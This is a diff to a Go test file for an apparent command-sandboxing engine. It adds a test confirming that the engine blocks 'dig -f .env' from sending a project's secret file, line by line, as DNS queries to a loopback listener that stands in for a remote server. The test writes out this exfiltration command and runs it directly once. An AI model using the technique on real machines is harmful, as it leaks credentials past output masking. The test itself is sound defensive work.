@@ -2,9 +2,11 @@ package engine
 
 import (
 	"context"
+	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -327,5 +329,58 @@ func TestRedGitWorktreeLegit(t *testing.T) {
 		if env := runRed(t, e, "git", c.args...); !env.OK {
 			t.Errorf("git %q: %s", c.args, mustMarshal(t, env))
 		}
+	}
+}
+
+// TestRedDigBatchFile: dig -f FILE sends each line of FILE as a query
+// name to the server the caller names (@host -p port): a project's .env
+// leaves the machine without passing through the output, where masking
+// could see it. A UDP listener on loopback stands for that server.
+func TestRedDigBatchFile(t *testing.T) {
+	if _, err := exec.LookPath("dig"); err != nil {
+		t.Skip("dig not installed")
+	}
+	proj, _, _ := redSetup(t)
+	writeFile(t, filepath.Join(proj, ".env"), "tok"+redSecret+"\n")
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer pc.Close()
+	port := strconv.Itoa(pc.LocalAddr().(*net.UDPAddr).Port)
+	got := make(chan string, 16)
+	go func() {
+		buf := make([]byte, 4096)
+		for {
+			n, _, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			got <- string(buf[:n])
+		}
+	}()
+	received := func() bool {
+		deadline := time.After(3 * time.Second)
+		for {
+			select {
+			case q := <-got:
+				if strings.Contains(q, redSecret) {
+					return true
+				}
+			case <-deadline:
+				return false
+			}
+		}
+	}
+	args := []string{"@127.0.0.1", "-p", port, "-f", ".env", "+tries=1", "+time=1"}
+	direct(t, proj, nil, "dig", args...)
+	if !received() {
+		t.Fatalf("dig %q should send the file's line to the listener (the leak this test guards against)", args)
+	}
+	e := redEngine(t, proj)
+	wantRefused(t, runRed(t, e, "dig", args...), "network_send")
+	wantRefused(t, runRed(t, e, "dig", "@127.0.0.1", "-p", port, "-f.env", "+tries=1", "+time=1"), "network_send")
+	if received() {
+		t.Errorf("the listener got the secret through the engine")
 	}
 }
